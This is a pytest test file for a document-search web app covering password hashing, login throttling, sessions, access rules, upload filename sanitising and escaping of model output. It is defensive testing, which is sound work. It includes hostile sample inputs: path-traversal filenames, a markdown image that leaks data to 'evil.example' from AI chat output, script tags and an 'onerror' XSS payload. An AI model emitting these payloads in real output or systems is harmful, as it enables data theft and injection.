"""The web app's parts without a browser: users, feedback, access rule, uploads, safe rendering, server guards."""

from __future__ import annotations

import re

import pytest
from markdown_it import MarkdownIt

from conftest import SAMPLE, make_pdf, run_cli
from workbench.access import ADMIN, Principal, can_read, filters_for
from workbench.errors import NotFoundError, WorkbenchError
from workbench.stores.feedback import FeedbackStore
from workbench.records import Answer, Chunk, Citation, Document
from workbench.stores.uploads import safe_filename, store_upload
from workbench.stores.users import UserStore

from workbench_web import render


# ---- users ---------------------------------------------------------------------------------------

def test_users_are_stored_with_argon2_hashes_and_verified(tmp_path):
    store = UserStore(tmp_path)
    store.add("alice", "correct horse", "staff,admin")
    import sqlite3

    [(stored,)] = sqlite3.connect(store.path).execute("SELECT password_hash FROM users").fetchall()
    assert stored.startswith("$argon2id$")
    assert "correct horse" not in stored
    assert store.verify("alice", "correct horse").groups == ("staff", "admin")
    assert store.verify("alice", "wrong") is None
    assert store.verify("nobody", "correct horse") is None
    with pytest.raises(WorkbenchError, match="already exists"):
        store.add("alice", "another password")
    with pytest.raises(WorkbenchError, match="too short"):
        store.add("bob", "short")
    with pytest.raises(WorkbenchError, match="user name"):
        store.add("../etc", "long enough pw")
    store.set_password("alice", "new password!")
    assert store.verify("alice", "correct horse") is None
    assert store.verify("alice", "new password!")
    store.remove("alice")
    assert store.get("alice") is None
    assert store.list() == []


def test_failed_logins_delay_only_that_client_for_that_name():
    from workbench_web.sessions import LoginThrottle

    now = [1000.0]
    throttle = LoginThrottle(attempts=3, max_delay_s=60, clock=lambda: now[0])
    for _ in range(3):
        assert throttle.begin("10.0.0.9", "carol") == 0
        throttle.end("10.0.0.9", "carol", ok=False)
    assert throttle.wait_s("10.0.0.9", "carol") == pytest.approx(1.0)  # the attacker's client waits ...
    assert throttle.begin("10.0.0.9", "carol") == pytest.approx(1.0)  # ... and gets no password check
    assert throttle.wait_s("10.0.0.7", "carol") == 0  # the rightful user's client never does
    assert throttle.wait_s("10.0.0.9", "dave") == 0  # other names are not affected (yet)
    for _ in range(10):
        throttle.failed("10.0.0.9", "carol")
    assert throttle.wait_s("10.0.0.9", "carol") == pytest.approx(60.0)  # doubling, capped at max_delay_s
    assert throttle.wait_s("10.0.0.9", "dave") > 0  # 12+ failures across names: that client waits for all
    assert throttle.wait_s("10.0.0.7", "dave") == 0
    now[0] += 61
    assert throttle.wait_s("10.0.0.9", "Carol") == 0
    for _ in range(3):
        throttle.failed("10.0.0.7", "erin")
    assert throttle.wait_s("10.0.0.7", "erin") > 0
    now[0] += 2
    throttle.succeeded("10.0.0.7", "erin")  # the rightful user gets in ...
    throttle.failed("10.0.0.7", "erin")  # ... and one later typo is not a wait
    assert throttle.wait_s("10.0.0.7", "erin") == 0  # a success starts that name's count again


def test_one_client_runs_few_password_checks_at_once_and_ipv6_counts_per_64():
    from workbench_web.sessions import LoginThrottle, client_key

    throttle = LoginThrottle(attempts=5, max_delay_s=60, per_client=2)
    assert throttle.begin("10.0.0.9", "a") == 0
    assert throttle.begin("10.0.0.9", "a") > 0  # the same name twice at once: no race past the count
    assert throttle.begin("10.0.0.9", "b") == 0
    assert throttle.begin("10.0.0.9", "c") > 0  # a third check at once from one client
    assert throttle.begin("10.0.0.8", "c") == 0  # another client is not affected
    throttle.end("10.0.0.9", "a", ok=False)
    assert throttle.begin("10.0.0.9", "c") == 0
    assert client_key("2001:db8::1") == client_key("2001:db8::ffff") != client_key("2001:db8:0:1::1")
    assert client_key("::ffff:10.0.0.9") == "10.0.0.9"


def test_sessions_expire_when_idle_or_old_and_end_when_the_account_changes(tmp_path):
    from workbench_web.sessions import GradioTokens, SessionStore

    users = UserStore(tmp_path)
    users.add("erin", "erin's password", "staff")
    now = [0.0]
    store = SessionStore(users, idle_s=10, max_s=25, clock=lambda: now[0])
    tokens = GradioTokens(store)
    token = store.start(users.get("erin"))
    for _ in range(4):  # used every 6 s: never idle ...
        now[0] += 6
        assert tokens.get(token) == "erin"
        assert token in tokens
    now[0] += 6  # ... but older than 25 s
    assert tokens.get(token) is None
    idle = store.start(users.get("erin"))
    now[0] += 11
    assert tokens.get(idle) is None
    for change in (lambda: users.set_password("erin", "another password"), lambda: users.set_groups("erin", "hr"),
                   lambda: users.remove("erin")):
        if users.get("erin") is None:
            users.add("erin", "erin's password", "staff")
        token = store.start(users.get("erin"))
        assert tokens.get(token) == "erin"
        change()
        assert tokens.get(token) is None
    with pytest.raises(RuntimeError):
        tokens["forged"] = "erin"


def test_users_commands(tmp_path):
    idx = str(tmp_path / "idx")
    add = run_cli("users", "add", "dave", "--groups", "finance", "--password-stdin", "--index", idx,
                  input="dave's password\n")
    assert add.returncode == 0
    assert "added dave" in add.stdout
    assert run_cli("users", "list", "--index", idx).stdout.split() == ["dave", "finance", "local"]  # name, groups, source
    listed = run_cli("users", "list", "--json", "--index", idx)
    assert '"groups": [\n      "finance"' in listed.stdout
    short = run_cli("users", "passwd", "dave", "--password-stdin", "--index", idx, input="x\n")
    assert short.returncode == 2
    assert "too short" in short.stderr
    assert run_cli("users", "passwd", "dave", "--password-stdin", "--index", idx, input="a new password\n").returncode == 0
    assert UserStore(tmp_path / "idx").verify("dave", "a new password")
    assert run_cli("users", "groups", "dave", "finance,admin", "--index", idx).returncode == 0
    assert UserStore(tmp_path / "idx").get("dave").groups == ("finance", "admin")
    gone = run_cli("users", "remove", "erin", "--index", idx)
    assert gone.returncode == 2
    assert "no user 'erin'" in gone.stderr
    assert run_cli("users", "remove", "dave", "--index", idx).returncode == 0
    assert "no users yet" in run_cli("users", "list", "--index", idx).stdout


# ---- access rule, feedback -----------------------------------------------------------------------

def _doc(groups=()) -> Document:
    return Document("d1", "default", "/x.pdf", "", "X", "pdf", 1, 0.0, "h", groups=groups)


def test_one_access_rule_for_search_and_single_documents():
    staff = Principal("sam", ("staff",))
    assert can_read(ADMIN, _doc(("finance",)))
    assert can_read(None, _doc(("finance",)))
    assert can_read(staff, _doc(("staff", "hr")))
    assert not can_read(staff, _doc(("finance",)))
    assert not can_read(staff, _doc(()))
    assert can_read(ADMIN, _doc(()))  # no groups: admins only
    assert filters_for(staff).groups == ("staff", f"@user:{staff.name}", "@everyone")  # groups, own entry, anyone
    assert filters_for(Principal("root", ("admin",), True)).groups is None


def test_search_honours_the_principal(make_wb, tmp_path):
    wb = make_wb()
    wb.ingest(SAMPLE, progress=False)
    hits = wb.search("annual leave days", k=3, principal=Principal("sam", ("staff",)))
    assert hits
    assert hits[0].chunk.title == "Northwind Aero Employee Handbook 2026"
    view = wb.source(hits[0].chunk.chunk_id, Principal("sam", ("staff",)))
    assert "annual leave" in view.chunk.text.lower()
    assert view.is_pdf
    assert wb.page_image(hits[0].chunk.chunk_id).startswith(b"\x89PNG")
    with pytest.raises(NotFoundError):
        wb.source(123456789)


def test_feedback_keeps_question_answer_citations_and_generation(tmp_path):
    store = FeedbackStore(tmp_path)
    c = Citation(1, Chunk(42, "d1", 0, "text", 0, 4, page=2, path="/a.pdf", title="Handbook", format="pdf"))
    other = Citation(2, Chunk(43, "d2", 0, "t", 0, 1, path="/b", title="B"))
    answer = Answer("Q?", "It is 25 days [1].", citations=(c, other), cited_numbers=(1,),
                    generation=7)
    entry_id = store.add("sam", answer, -1, " wrong number ")
    [entry] = store.list()
    assert entry.id == entry_id
    assert entry.rating == -1
    assert entry.comment == "wrong number"
    assert entry.generation == 7
    assert entry.question == "Q?"
    assert [x["number"] for x in entry.citations] == [1]
    with pytest.raises(ValueError):
        store.add("sam", answer, 0)


# ---- uploads -------------------------------------------------------------------------------------

@pytest.mark.parametrize("name, expected", [
    ("report.pdf", "report.pdf"),
    ("../../etc/passwd.txt", "passwd.txt"),
    ("/abs/path/notes.md", "notes.md"),
    ("..\\..\\windows\\evil.docx", "evil.docx"),
    (".hidden.csv", "hidden.csv"),
    ("a\x00b\u202ec.txt", "abc.txt"),
    ("ｆｕｌｌｗｉｄｔｈ.pdf", "fullwidth.pdf"),
    ("..", "upload"),
    ("x" * 300 + ".pdf", "x" * 116 + ".pdf"),
    ("[a-c]udget.md", "_a-c_udget.md"),  # no glob characters: the name goes into an access file
    ("*?.md", "__.md"),
])
def test_upload_names_are_neutralised(name, expected):
    assert safe_filename(name) == expected


def test_uploads_land_only_in_the_collection_folder(tmp_path):
    src = tmp_path / "tmpupload"
    src.write_text("hello")
    target = store_upload(tmp_path / "idx", "hr", src, "../../../outside.txt", max_mb=1)
    assert target == tmp_path / "idx" / "uploads" / "hr" / "outside.txt"
    assert target.read_text() == "hello"
    with pytest.raises(WorkbenchError, match="not supported"):
        store_upload(tmp_path / "idx", "hr", src, "tool.exe", max_mb=1)
    big = tmp_path / "big"
    big.write_bytes(b"x" * 2_000_000)
    with pytest.raises(WorkbenchError, match="over the 1 MB upload limit"):
        store_upload(tmp_path / "idx", "hr", big, "big.txt", max_mb=1)
    assert sorted(p.name for p in (tmp_path / "idx" / "uploads" / "hr").iterdir()) == ["outside.txt"]


def test_upload_indexes_good_files_and_drops_unreadable_ones(make_wb, tmp_path):
    wb = make_wb()
    good = make_pdf(tmp_path / "a.pdf", ["Canteen", "The canteen opens at 07:30."])
    bad = tmp_path / "b.pdf"
    bad.write_bytes(b"%PDF-1.7 garbage")
    seen = []
    report, refused = wb.upload([("menu.pdf", good), ("broken.pdf", bad), ("x.exe", bad)], "food",
                                on_file=lambda p, e: seen.append((p.rsplit("/", 1)[-1], e is None)))
    assert [f.path for f in refused] == ["x.exe"]
    assert [p.rsplit("/", 1)[-1] for p in report.added] == ["menu.pdf"]
    assert [f.path.rsplit("/", 1)[-1] for f in report.failed] == ["broken.pdf"]
    assert sorted(seen) == [("broken.pdf", False), ("menu.pdf", True), ("x.exe", False)]
    assert sorted(p.name for p in (wb.index_dir / "uploads" / "food").iterdir()) == ["menu.pdf"]
    assert wb.status().collections == {"food": 1}


# ---- rendering model output ----------------------------------------------------------------------

def _html(markdown: str) -> str:
    """Markdown → HTML the way GitHub-style renderers (like the chat's) do, auto-links included."""
    return MarkdownIt("gfm-like").render(markdown)


HOSTILE = ("![x](https://evil.example/leak?q=secret) <img src=https://evil.example/a.png> "
           "[click](https://evil.example) https://evil.example/x www.evil.example <script>alert(1)</script> **bold**")


def test_model_output_cannot_make_images_links_or_html():
    out = _html(render.answer_markdown(HOSTILE))
    assert "<img" not in out
    assert "<a " not in out
    assert "<script" not in out
    assert "<strong>" not in out
    assert "evil.example" in out  # shown as text


def test_only_checked_citations_become_links_to_the_viewer():
    c = Citation(1, Chunk(42, "d1", 0, "text", 0, 4, page=2, path="/a.pdf", title="Handbook", format="pdf"))
    out = _html(render.answer_markdown("Leave is 25 days [1]. See [7].", (c,)))
    assert re.findall(r'href="([^"]+)"', out) == ["source/42", "source/42"]  # in the text, then the sources line
    assert "[7]" in out
    assert "Sources:" in out
    uncited = _html(render.answer_markdown("Leave is 25 days.", (c,)))
    assert "the model cited none" in uncited
    assert 'href="source/42"' in uncited


def test_sources_panel_escapes_document_text():
    c = Citation(1, Chunk(42, "d1", 0, "<img src=x onerror=alert(1)>", 0, 29, page=2, path="/a.pdf",
                          title="<b>Title</b>", format="pdf"))
    out = render.sources_html(Answer("q", "a [1]", citations=(c,)))
    assert "<img" not in out
    assert "&lt;img" in out
    assert "href='source/42'" in out


# ---- server guards -------------------------------------------------------------------------------

def test_header_sso_is_refused_unless_listening_on_loopback(make_wb, monkeypatch):
    from workbench_web.pages import concurrency_for
    from workbench_web.server import create_server

    wb = make_wb()
    wb.config = wb.config.replace("web", trusted_user_header="X-Forwarded-User")
    with pytest.raises(WorkbenchError, match="only safe behind a reverse proxy"):
        create_server(wb, host="0.0.0.0")
    with pytest.raises(WorkbenchError, match="shared secret"):  # and only with the proxy's secret
        create_server(wb, host="127.0.0.1")
    wb.config = wb.config.replace("web", trusted_header_secret_env="WB_TEST_PROXY_SECRET")
    monkeypatch.setenv("WB_TEST_PROXY_SECRET", "s3cret-shared-with-the-proxy")
    assert create_server(wb, host="127.0.0.1") is not None
    assert concurrency_for(wb) == 1


def test_the_app_is_built_with_safe_defaults(make_wb):
    from workbench_web.pages import build_app

    demo = build_app(make_wb())
    assert demo.analytics_enabled is False
    assert demo._queue.max_size == 16
    assert demo._queue.default_concurrency_limit == 1
    assert demo.api_open is False
    public = [d for d in demo.fns.values() if d.api_visibility == "public"]
    assert public == []


def test_uploads_refuse_collection_names_that_leave_the_upload_folder(make_wb, tmp_path):
    src = tmp_path / "x.txt"
    src.write_text("hello there")
    wb = make_wb()
    for bad in ("../outside", "a/b", "..", "", "ünï"):
        with pytest.raises(WorkbenchError, match="collection name"):
            wb.upload([("x.txt", src)], bad)
    assert not (wb.index_dir / "outside").exists()
    assert not (tmp_path / "outside").exists()


def test_unknown_users_are_not_the_operator(make_wb):
    with pytest.raises(NotFoundError, match="no user 'typo'"):
        make_wb().principal("typo")


def test_a_file_changed_since_indexing_is_not_served(make_wb, tmp_path):
    docs = tmp_path / "docs"
    docs.mkdir()
    make_pdf(docs / "a.pdf", ["Alpha page about turbines."])
    wb = make_wb()
    wb.ingest(docs, progress=False)
    chunk = wb.chunks()[0]
    with wb.original_file(chunk.chunk_id) as original:
        assert original.name == "a.pdf" and original.file.read(5) == b"%PDF-"
    assert wb.page_image(chunk.chunk_id)
    make_pdf(docs / "a.pdf", ["Alpha page, now with other and longer secret text than before."])
    for call in (wb.original_file, wb.page_image):
        with pytest.raises(NotFoundError, match="changed since it was indexed"):
            call(chunk.chunk_id)


def test_a_file_gone_since_indexing_is_not_served_and_the_check_says_why(make_wb, tmp_path):
    from workbench.errors import FileCheck, FileCheckError
    from workbench.files import open_checked

    docs = tmp_path / "docs"
    docs.mkdir()
    make_pdf(docs / "a.pdf", ["Alpha page about turbines."])
    wb = make_wb()
    wb.ingest(docs, progress=False)
    chunk = wb.chunks()[0]
    (docs / "a.pdf").rename(docs / "b.pdf")
    with pytest.raises(NotFoundError, match="a.pdf is no longer in its folder"):
        wb.original_file(chunk.chunk_id)
    with pytest.raises(FileCheckError) as gone:
        open_checked(docs / "a.pdf")
    assert gone.value.kind is FileCheck.MISSING
    (docs / "link.pdf").symlink_to(docs / "b.pdf")
    with pytest.raises(FileCheckError, match="symbolic link") as link:
        open_checked(docs / "link.pdf")
    assert link.value.kind is FileCheck.LINK
    with pytest.raises(FileCheckError, match="not a regular file") as folder:
        open_checked(docs)
    assert folder.value.kind is FileCheck.NOT_REGULAR


def test_the_admin_status_shows_the_embedding_runtime_and_cpu_escaped(make_wb):
    from dataclasses import replace

    status = make_wb().status()
    page = render.status_html(status)
    assert "Embedding runtime" in page and "for queries" in page and "cores" in page
    assert "<script>" not in render.status_html(replace(status, cpu="<script>x</script>"))
